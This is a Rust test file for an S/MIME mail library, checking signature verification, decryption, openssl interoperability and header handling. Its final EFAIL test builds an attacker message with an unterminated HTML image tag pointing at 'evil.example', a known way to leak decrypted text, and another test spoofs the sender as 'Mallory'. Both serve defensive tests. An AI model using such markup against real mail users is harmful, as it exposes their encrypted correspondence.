//! Messages that are signed and encrypted are read with keys: those of our own, and those of `openssl`.

#![cfg(unix)]
#![allow(clippy::unwrap_used, reason = "a test that cannot go on ends")]

#[path = "../../smime/tests/people/mod.rs"]
mod people;

use people::{Folder, certificate, identity, town};
use postkontor_core::message::{Composer, Held, Protection, Signature, When};
use postkontor_core::settings::Sender;
use postkontor_core::{Content, Encrypted, Keys, Layer, Opened, Signed, Smime};
use postkontor_smime::Capability;
use postkontor_smime::encrypt::Recipient;
use postkontor_smime::sign::Terms;
use postkontor_smime::verify::Anchors;
use std::sync::Arc;
use std::time::{SystemTime, UNIX_EPOCH};

const DOCUMENT: &str = r#"{"from":"person0@example.com","to":["person2@example.com"],"subject":"Rechnung","text":"Grüße\r\nFrom hier.\r\n","html":"<p>Grüße","attachments":[{"name":"a.txt","part":0}]}"#;

fn keys(names: &[&str]) -> Arc<Keys> {
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_secs() as i64;
    let identities = names.iter().map(|name| identity(town(), name)).collect();
    Arc::new(Keys { identities, trust: Anchors::new(vec![certificate(town(), "ca")]), known: Vec::new(), now })
}

/// Signed where there is somebody to sign, and encrypted where there are recipients.
fn composed(signature: Option<Signature>, recipients: Vec<Recipient>) -> Vec<u8> {
    let sender = Sender::default();
    let encrypt = if recipients.is_empty() { When::Never } else { When::Always };
    let held = Held { signature: signature.map(Arc::new), recipients };
    let protection = Protection { certificates: &held, sign: held.signature.is_some(), encrypt, to_self: false };
    let attached: [&[u8]; 1] = [b"attached\n"];
    let mut composed = Composer::new(&sender).unwrap().protected_by(protection).compose(DOCUMENT, &attached).unwrap();
    let (mut all, mut block) = (Vec::new(), vec![0; 10_000]);
    loop {
        match composed.read(&mut block).unwrap() {
            0 => return all,
            count => all.extend_from_slice(&block[..count]),
        }
    }
}

fn signature(name: &str) -> Option<Signature> {
    Some(Signature { identity: identity(town(), name), terms: Terms::default() })
}

fn recipients(capabilities: Option<Vec<Capability>>) -> Vec<Recipient> {
    vec![Recipient { capabilities, ..Recipient::new(certificate(town(), "person2")) }]
}

fn read(raw: &[u8], names: &[&str]) -> (Opened, Content) {
    let opened = Opened::new(raw.to_vec()).with_keys(keys(names));
    let content = opened.content();
    (opened, content)
}

fn codes(layer: &Layer) -> Vec<&str> {
    layer.faults.iter().chain(layer.signers.iter().flat_map(|signer| &signer.faults)).map(|fault| fault.code.as_str()).collect()
}

fn smime(content: &Content) -> &Smime {
    content.smime.as_ref().unwrap()
}

fn signed(content: &Content) -> &Signed {
    smime(content).signed.as_ref().unwrap()
}

fn encrypted(content: &Content) -> &Encrypted {
    smime(content).encrypted.as_ref().unwrap()
}

fn warnings(content: &Content) -> Vec<&str> {
    content.warnings.iter().map(|warning| warning.code.as_str()).collect()
}

fn kinds(content: &Content) -> Vec<(&str, &str)> {
    smime(content).layers.iter().map(|layer| (layer.kind.as_str(), layer.status.as_str())).collect()
}

#[test]
fn a_signature_is_verified_and_the_message_stays_as_it_is() {
    for name in ["person0", "person1"] {
        let raw = composed(signature(name), vec![]);
        for lines in [raw.clone(), String::from_utf8(raw.clone()).unwrap().replace("\r\n", "\n").into_bytes()] {
            let (_, content) = read(&lines, &[]);
            let expected = if name == "person0" { ("good", vec![]) } else { ("bad", vec!["smime.other_address"]) };
            assert_eq!((kinds(&content), codes(&smime(&content).layers[0])), (vec![("signed", expected.0)], expected.1));
            assert_eq!((content.security.as_deref(), content.parts.len()), (Some("signed"), 2), "the signature stays a part");
            let signer = &smime(&content).layers[0].signers[0];
            assert_eq!(signer.addresses, [format!("{name}@example.com")]);
            let verdict = signed(&content);
            assert_eq!(
                (verdict.status.as_str(), verdict.code.as_deref()),
                (expected.0, codes(&smime(&content).layers[0]).first().copied())
            );
            assert_eq!((&verdict.by, &verdict.fingerprint, &verdict.signed_at), (&signer.by, &signer.fingerprint, &signer.signed_at));
            assert_eq!(verdict.signed_at.as_deref().map(|time| (time.len(), time.ends_with('Z'))), Some((20, true)));
            assert_eq!(smime(&content).encrypted, None);
        }
        let text = String::from_utf8(raw).unwrap();
        let changed = text.replace("hier", "dort");
        assert_ne!(changed, text);
        let (_, content) = read(changed.as_bytes(), &[]);
        assert_eq!((signed(&content).status.as_str(), signed(&content).code.as_deref()), ("bad", Some("smime.content_changed")));
        assert_eq!(codes(&smime(&content).layers[0])[0], "smime.content_changed");
    }
    let plain = composed(None, vec![]);
    assert_eq!(read(&plain, &[]).1.smime, None);
    assert_eq!(Opened::new(composed(signature("person0"), vec![])).content().smime, None, "without keys nothing is looked at");
}

#[test]
fn what_was_encrypted_is_read_like_any_message() {
    for (capabilities, cipher, faults) in
        [(None, "AES-256-CBC", vec!["smime.no_integrity"]), (Some(Capability::own()), "AES-256-GCM", vec![])]
    {
        let raw = composed(signature("person0"), recipients(capabilities));
        let (opened, content) = read(&raw, &["person3", "person2"]);
        assert_eq!(kinds(&content), [("encrypted", "opened"), ("signed", "good")]);
        assert_eq!((smime(&content).layers[0].cipher.as_deref(), codes(&smime(&content).layers[0])), (Some(cipher), faults));
        assert_eq!(
            (content.subject.as_str(), content.text.as_str(), content.size),
            ("Rechnung", "Grüße\r\nFrom hier.\r\n", raw.len() as u64)
        );
        assert_eq!((content.security.as_deref(), content.parts[0].file_name.as_str()), (Some("encrypted"), "a.txt"));
        assert_eq!(content.from[0].address.as_deref(), Some("person0@example.com"));
        assert_eq!(content.parts[0].section, None, "the server has no such part");
        assert_eq!((opened.part(0).unwrap().as_ref(), opened.bytes(None).unwrap().as_ref()), (&b"attached\n"[..], raw.as_slice()));
        let (opened, content) = read(&raw, &["person3"]);
        assert_eq!((kinds(&content), codes(&smime(&content).layers[0])), (vec![("encrypted", "closed")], vec!["smime.other_recipients"]));
        assert_eq!((content.text.as_str(), content.parts.len()), ("", 1), "it stays a file");
        assert_eq!((encrypted(&content).status.as_str(), warnings(&content)), ("closed", vec![]));
        assert!(opened.part(0).unwrap().len() > 500);
    }
}

/// Signed, encrypted and signed once more, by `openssl` with indefinite lengths, opaque and with a type that a gateway has forgotten.
#[test]
fn three_layers_of_openssl_are_opened() {
    let folder = Folder::new();
    folder.write("0", "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGrüße von innen\r\n");
    let [pem, key, to] = ["person0.pem", "person0.key", "person2.pem"].map(|name| town().path(name).display().to_string());
    let sign = |from: &str, to: &str| {
        folder.openssl(&[
            "cms",
            "-sign",
            "-stream",
            "-nodetach",
            "-binary",
            "-in",
            from,
            "-outform",
            "DER",
            "-out",
            "der",
            "-signer",
            &pem,
            "-inkey",
            &key,
        ]);
        mime(&folder, "signed-data", to);
    };
    sign("0", "1");
    folder.openssl(&["cms", "-encrypt", "-stream", "-binary", "-aes256", "-in", "1", "-outform", "DER", "-out", "der", &to]);
    mime(&folder, "enveloped-data", "2");
    sign("2", "3");
    let head = b"From: person0@example.com\r\nSubject: dreifach\r\n";
    let raw = [&head[..], &folder.read("3")].concat();
    let (_, content) = read(&raw, &["person2"]);
    assert_eq!(kinds(&content), [("signed", "good"), ("encrypted", "opened"), ("signed", "good")], "{content:?}");
    assert_eq!((content.text.as_str(), content.subject.as_str(), content.parts.len()), ("Grüße von innen\r\n", "dreifach", 0));
    let forgotten =
        String::from_utf8(raw).unwrap().replacen("application/pkcs7-mime; smime-type=signed-data", "application/octet-stream", 1);
    assert_eq!(read(forgotten.as_bytes(), &["person2"]).1.text, "Grüße von innen\r\n");
}

/// A part with what `openssl` wrote.
fn mime(folder: &Folder, kind: &str, to: &str) {
    let base64 = String::from_utf8(folder.openssl(&["base64", "-in", "der"])).unwrap().replace('\n', "\r\n");
    folder.write(
        to,
        format!(
            "Content-Type: application/pkcs7-mime; smime-type={kind}; name=smime.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64}"
        ),
    );
}

/// EFAIL: text that was decrypted without integrity is marked, unless who signed it wrote it. A signature around it is anybody's.
#[test]
fn text_that_could_have_been_changed_is_marked() {
    let told = |raw: &[u8]| {
        let (_, content) = read(raw, &["person2"]);
        assert!(content.text.contains("hier") && content.complete, "{content:?}");
        (encrypted(&content).code.clone().unwrap_or_default(), warnings(&content).join(" "))
    };
    let plain = composed(None, recipients(None));
    let marked = ("smime.no_integrity".to_owned(), "smime.no_integrity".to_owned());
    assert_eq!(told(&plain), marked);
    assert_eq!(told(&composed(None, recipients(Some(Capability::own())))), Default::default());
    assert_eq!(told(&composed(signature("person0"), recipients(None))), Default::default());
    // The signer is another than the sender.
    assert_eq!(told(&composed(signature("person1"), recipients(None))), marked);
    // Signed outside only, in both forms.
    let text = String::from_utf8(plain).unwrap();
    let at = text.find("Content-Type: application/pkcs7-mime").unwrap();
    let folder = Folder::new();
    folder.write("inner", &text[at..]);
    let [pem, key] = ["person0.pem", "person0.key"].map(|name| town().path(name).display().to_string());
    for form in [&["-binary"][..], &["-binary", "-nodetach"]] {
        let mut arguments = vec!["cms", "-sign", "-in", "inner", "-signer", &pem, "-inkey", &key, "-from", "person0@example.com"];
        arguments.extend(form);
        let outside = folder.openssl(&arguments);
        assert_eq!(told(&outside), marked, "{form:?}");
        assert_eq!(kinds(&read(&outside, &["person2"]).1), [("signed", "good"), ("encrypted", "opened")]);
    }
}

/// What stands beside the signed part is not shown as if it were signed.
#[test]
fn a_signature_that_calls_itself_a_text_signs_nothing() {
    let raw = String::from_utf8(composed(signature("person0"), vec![])).unwrap();
    for (from, to) in
        [("application/pkcs7-signature; name=", "text/html; name="), ("application/pkcs7-signature; name=", "image/png; name=")]
    {
        let (before, after) = raw.rsplit_once(from).unwrap();
        let (_, content) = read([before, to, after].concat().as_bytes(), &[]);
        assert_eq!((signed(&content).status.as_str(), signed(&content).code.as_deref()), ("bad", Some("smime.not_signed")));
    }
    let (before, after) = raw
        .rsplit_once("application/pkcs7-signature; name=smime.p7s")
        .or_else(|| raw.rsplit_once("application/pkcs7-signature; name=\"smime.p7s\""))
        .unwrap();
    let (_, content) = read([before, "application/octet-stream; name=smime.p7s", after].concat().as_bytes(), &[]);
    assert_eq!(signed(&content).status, "good");
}

#[test]
fn each_verdict_is_a_sentence_of_the_readers_language() {
    let raw = composed(signature("person1"), vec![]);
    for (language, word) in [("de-AT", "Absender"), ("sl", "pošiljatelja"), ("en", "sender")] {
        let content = Opened::new(raw.clone()).with_keys(keys(&[])).in_language(language).content();
        let message = signed(&content).message.clone().unwrap();
        assert!(message.contains(word) && message.contains("person1@example.com"), "{message}");
        let fault = &smime(&content).layers[0].signers[0].faults[0];
        assert_eq!(fault.message.as_ref(), Some(&message));
        assert!(fault.detail.contains("not for the sender"), "{}", fault.detail);
    }
}

/// What gateways and old programs make of a message that `openssl` signed without detaching, in BER of indefinite lengths.
#[test]
fn opaque_messages_are_opened_however_they_are_labelled_and_folded() {
    let folder = Folder::new();
    folder.write("0", "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGrüße von innen\r\n");
    let [pem, key] = ["person0.pem", "person0.key"].map(|name| town().path(name).display().to_string());
    let sign = ["cms", "-sign", "-stream", "-nodetach", "-binary", "-in", "0", "-outform", "DER", "-out", "der"];
    folder.openssl(&[&sign[..], &["-signer", &pem, "-inkey", &key]].concat());
    let base64: String = String::from_utf8(folder.openssl(&["base64", "-in", "der"])).unwrap().split_whitespace().collect();
    let folded =
        |width: usize, end: &str| base64.as_bytes().chunks(width).map(|line| String::from_utf8_lossy(line) + end).collect::<String>();
    let bodies = [
        folded(76, "\r\n"),
        folded(64, "\n"),
        folded(61, "\r\n"),
        folded(1, "\r\n"),
        folded(usize::MAX, "\r\n"),
        folded(76, " \r\n\r\n"),
        folded(76, "\r\n") + "\r\n-- \r\nA footer of a list\r\n",
    ];
    let labels = [
        "application/pkcs7-mime; smime-type=signed-data; name=smime.p7m",
        "application/x-pkcs7-mime; name=\"smime.p7m\"",
        "application/pkcs7-mime",
        "application/octet-stream; name=\"SMIME.P7M\"",
        "application/pkcs7-mime; smime-type=enveloped-data",
    ];
    let opened = |label: &str, body: &str| {
        let raw = format!("From: person0@example.com\r\nContent-Type: {label}\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}");
        let (_, content) = read(raw.as_bytes(), &[]);
        assert_eq!((signed(&content).status.as_str(), content.text.as_str()), ("good", "Grüße von innen\r\n"), "{label} {body}");
    };
    labels.iter().for_each(|label| opened(label, &bodies[0]));
    bodies.iter().for_each(|body| opened(labels[0], body));
    // Without a name in the type, the disposition has it.
    opened("application/octet-stream\r\nContent-Disposition: attachment; filename=smime.p7m", &bodies[0]);
    // As binary, without any encoding.
    let head = b"From: person0@example.com\r\nContent-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n";
    let (_, content) = read(&[&head[..], &folder.read("der")].concat(), &[]);
    assert_eq!((signed(&content).status.as_str(), content.text.as_str()), ("good", "Grüße von innen\r\n"));
}

/// A `winmail.dat` within an encrypted message: its file is a part like any other.
#[test]
fn a_winmail_dat_is_unwrapped_within_an_encrypted_message() {
    let folder = Folder::new();
    let attribute = |level: u8, id: u32, data: &[u8]| {
        let sum = data.iter().fold(0_u16, |sum, byte| sum.wrapping_add((*byte).into()));
        [&[level][..], &id.to_le_bytes(), &(data.len() as u32).to_le_bytes(), data, &sum.to_le_bytes()].concat()
    };
    let file =
        [attribute(2, 0x0006_9002, &[0; 14]), attribute(2, 0x0001_8010, b"a.pdf\0"), attribute(2, 0x0006_800f, b"%PDF-1.4")].concat();
    folder.write("tnef", [&0x223e_9f78_u32.to_le_bytes()[..], &[1, 0], &file].concat());
    let base64 = String::from_utf8(folder.openssl(&["base64", "-in", "tnef"])).unwrap().replace('\n', "\r\n");
    folder.write(
        "0",
        format!("Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nsee below\r\n--b\r\nContent-Type: application/ms-tnef; name=winmail.dat\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64}\r\n--b--\r\n"),
    );
    let to = town().path("person2.pem").display().to_string();
    let raw = folder.openssl(&["cms", "-encrypt", "-binary", "-aes256", "-in", "0", "-from", "person0@example.com", &to]);
    let (opened, content) = read(&raw, &["person2"]);
    let names: Vec<&str> = content.parts.iter().map(|part| part.file_name.as_str()).collect();
    assert_eq!((content.text.as_str(), names), ("see below", vec!["winmail.dat", "a.pdf"]));
    assert_eq!(opened.part(1).unwrap().as_ref(), b"%PDF-1.4");
}

/// Fields of the header that stand within as well (RFC 9788, and what Thunderbird writes) do not show twice, and who signed is compared with the sender that is shown.
#[test]
fn protected_header_fields_show_once() {
    let folder = Folder::new();
    let to = town().path("person2.pem").display().to_string();
    for kind in ["text/plain; hp=\"cipher\"", "text/plain; protected-headers=\"v1\"", "text/plain"] {
        folder.write("0", format!("From: person0@example.com\r\nTo: person2@example.com\r\nSubject: Rechnung 4711\r\nReply-To: r@example.com\r\nContent-Type: {kind}\r\n\r\nhier\r\n"));
        folder.openssl(&["cms", "-encrypt", "-binary", "-aes256", "-in", "0", "-out", "1", &to]);
        let head = b"From: Mallory <mallory@example.com>\r\nTo: person2@example.com\r\nSubject: [...]\r\n";
        let (_, content) = read(&[&head[..], &folder.read("1")].concat(), &["person2"]);
        let addresses = |people: &[postkontor_core::Person]| people.iter().filter_map(|person| person.address.clone()).collect::<Vec<_>>();
        assert_eq!(
            (addresses(&content.from), addresses(&content.to)),
            (vec!["mallory@example.com".to_owned()], vec!["person2@example.com".to_owned()])
        );
        let subject = if kind == "text/plain" { "[...]" } else { "Rechnung 4711" };
        assert_eq!((content.subject.as_str(), content.text.trim_end()), (subject, "hier"), "{kind}");
    }
}

/// EFAIL: what is encrypted between parts of an attacker's stays closed.
#[test]
fn an_encrypted_part_beside_others_stays_closed() {
    let raw = composed(None, recipients(None));
    let text = String::from_utf8(raw).unwrap();
    let at = text.find("Content-Type: application/pkcs7-mime").unwrap();
    let mixed = format!(
        "From: mallory@example.com\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--x\r\n{}\r\n--x--\r\n",
        &text[at..]
    );
    let (_, content) = read(mixed.as_bytes(), &["person2"]);
    assert!(content.smime.is_none() && !content.html.contains("Gr") && content.parts.len() == 1, "{content:?}");
}
